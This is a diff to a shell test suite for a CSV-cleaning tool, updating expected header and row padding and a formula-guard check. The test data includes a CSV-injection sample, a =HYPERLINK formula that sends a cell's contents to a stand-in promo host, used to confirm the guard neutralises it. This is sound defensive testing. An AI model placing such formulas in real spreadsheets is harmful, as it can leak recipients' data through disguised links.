@@ -19,9 +19,10 @@ roundtrip() {
 	ok "$name: every input row in exactly one output" rows_partition "$n" "$C" "$R"
 	ok "$name: scrub_row ascending in the cleaned file" ascending "$C"
 	ok "$name: scrub_row ascending in the rejected file" ascending "$R"
-	want=$(header_raw "$in")$d$(appended_header "$d")
-	is "$(header_raw "$C")" "$want" "$name: cleaned header = input header + appended names"
-	is "$(header_raw "$R")" "$want" "$name: rejected header = input header + appended names"
+	# the header is padded, like every row, to the widest row
+	want=$(header_raw "$in")$(printf "%$(($(nfields "$in" | sort -n | tail -1) - $(nfields "$in" | head -1)))s" '' | tr ' ' "$d")$d$(appended_header "$d")
+	is "$(header_raw "$C")" "$want" "$name: cleaned header = input header + padding + appended names"
+	is "$(header_raw "$R")" "$want" "$name: rejected header = input header + padding + appended names"
 	scrub "$name-off" --offline --formula-guard off "$in"
 	ok "$name: original cells byte-identical (--formula-guard off)" \
 	    same_bytes "$in" 1 "$T/$name-off.cleaned.csv" "$T/$name-off.rejected.csv"
@@ -146,12 +147,12 @@ is "$(get "$C" 5 Notes)" 'Called on Monday.\nWants the Q3 catalogue, not Q2.\nCa
 is "$(get "$C" 6 Notes)" "'=HYPERLINK(\"http://promo.example/claim?id=\"&B7,\"Claim your prize\")" \
     "messy row 6: =HYPERLINK cell guarded with a leading '"
 is "$(orig_part "$C" | awk -F '\t' '$1 == 6 { print $2 }')" \
-    'Eve Marsh,eve.marsh@protonmail.com,"'"'"'=HYPERLINK(""http://promo.example/claim?id=""&B7,""Claim your prize"")",webform' \
+    'Eve Marsh,eve.marsh@protonmail.com,"'"'"'=HYPERLINK(""http://promo.example/claim?id=""&B7,""Claim your prize"")",webform,' \
     "messy row 6: guarded cell re-quoted minimally, other cells byte-identical"
 is "$(look 7 $V,scrub_email "$C" "$R")" "cleaned|valid|syntax_ok|keep|farid.saleh@hotmail.com" \
     "messy row 7: short row judged"
 is "$(col "$C" scrub_row | paste -d ' ' - <(nfields "$C" | tail -n +2) | awk '$1 == 7 { print $2 }')" \
-    "$((4 + NCOLS))" "messy row 7: short row padded to 4 cells + $NCOLS"
+    "$((5 + NCOLS))" "messy row 7: short row padded to the widest row, 5 cells + $NCOLS"
 is "$(col "$C" scrub_row | paste -d ' ' - <(nfields "$C" | tail -n +2) | awk '$1 == 8 { print $2 }')" \
     "$((5 + NCOLS))" "messy row 8: long row keeps its 5th cell (5 + $NCOLS)"
 is "$(look 8 scrub_email "$C" "$R")" "cleaned|gwen.parry@btinternet.com" "messy row 8: long row judged on the email column"
